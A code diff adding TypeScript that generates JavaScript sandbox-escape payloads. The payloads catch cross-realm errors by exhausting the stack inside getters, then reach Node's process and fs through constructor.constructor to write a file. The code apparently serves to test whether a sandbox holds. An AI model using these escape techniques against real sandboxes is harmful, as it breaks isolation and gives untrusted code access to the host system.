@@ -1,0 +1,33 @@
+/**
+ * What strategies try: whoever finds an object of another realm makes a function of text with it, and writes a file through Node. It throws
+ * nothing, so that strategies can try one thing after the other.
+ */
+export const reach = (file: string): string => `
+const reach = (found, how) => {
+  try {
+    found.constructor.constructor('return process')().getBuiltinModule('node:fs').writeFileSync(${JSON.stringify(file)}, how)
+  } catch {}
+}
+`
+
+/** Reads every getter of a view at each step back from the end of the stack, and looks at what it catches there that is no error of its own realm. */
+export const CLIMB_ALL = `
+const climb = (view, key) => {
+  let found
+  const down = () => {
+    try { down() } catch (error) { if (!(error instanceof Error)) found ??= error }
+    if (found !== undefined) return
+    try { view[key] } catch (error) { if (!(error instanceof Error)) found ??= error }
+  }
+  // Words on the stack shift where it ends, so that it ends in each call that the getter makes.
+  const from = (...words) => down()
+  for (let words = 0; words < 24 && found === undefined; words++) from(...Array(words).fill(0))
+  if (found !== undefined) reach(found, key)
+}
+let climbed = 0
+const climbAll = (view) => {
+  if (climbed++ > 0) return
+  const prototype = Object.getPrototypeOf(view)
+  for (const key of Object.getOwnPropertyNames(prototype)) if (Object.getOwnPropertyDescriptor(prototype, key).get !== undefined) climb(view, key)
+}
+`
